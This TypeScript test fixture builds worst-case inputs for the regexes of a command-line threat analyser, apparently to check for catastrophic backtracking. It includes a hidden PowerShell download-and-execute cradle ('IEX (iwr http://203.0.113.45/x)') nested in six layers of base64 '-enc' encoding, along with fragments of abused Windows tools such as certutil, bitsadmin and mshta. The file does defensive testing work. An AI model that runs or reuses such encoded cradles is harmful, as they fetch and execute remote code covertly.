/**
 * Command lines built to hurt the analysis: the once-quadratic token shapes, deep nesting, and for
 * every regex of the analysis (tokenizer, findings, IOCs) the input that makes it backtrack most.
 */
const utf16b64 = (s: string) => Buffer.from(s, 'utf16le').toString('base64');

/** `repeat(unit)` to `size` characters. */
export const fill = (unit: string, size: number) => unit.repeat(Math.ceil(size / unit.length)).slice(0, size);

function nestedEncoded(depth: number): string {
  let script = 'IEX (iwr http://203.0.113.45/x)';
  for (let i = 0; i < depth; i++) script = `powershell -nop -w hidden -enc ${utf16b64(script)}`;
  return script;
}

/** Units repeated to the size asked. */
export const WORST_UNITS: [string, string][] = [
  ['powershell', 'powershell '],
  ['powershell -nop', 'powershell -nop '],
  ['powershell -e', 'powershell -e '],
  ['powershell -enc payload', `powershell -enc ${utf16b64('IEX x')} `],
  ['powershell -c chain', 'powershell -c "powershell -c \\"'],
  ['nested quotes', `"'`],
  ['escaped quotes', '"\\"\\'],
  ['parens', '(('],
  ['carets', '^^^'],
  ['backticks', '``'],
  ['certutil', 'certutil '],
  ['bitsadmin', 'bitsadmin '],
  ['regsvr32', 'regsvr32 /i:'],
  ['mshta', 'mshta '],
  ['Net.WebClient', 'Net.WebClient '],
  ['.Download', '.Download '],
  ['Set-ExecutionPolicy', 'Set-ExecutionPolicy -x '],
  ['start word.', ' start a.'],
  ['iwr spaces', ' iwr    '],
  ['Start-Process', 'Start-Process '],
  ['[Diagnostics.Process]::Start(', '[Diagnostics.Process]::Start('],
  ['dotted digits', '1.'],
  ['dotted labels', 'a.'],
  ['hyphenated labels', 'a-'],
  ['colons', ':'],
  ['hex colons', '0:'],
  ['hex', 'a'],
  ['url', 'http://'],
  ['ipv6 with ipv4 tail', '::1.2.3.'],
];

/** Whole command lines that are not repetitions. */
export const WORST_WHOLE: [string, (size: number) => string][] = [
  ['nested -EncodedCommand', () => nestedEncoded(6)],
  ['unterminated quote then words', (size) => `"${fill('a ', size - 1)}`],
  ['long digit run', (size) => fill('1', size)],
  ['long label without a dot', (size) => `x ${fill('a', size - 2)}.`],
];
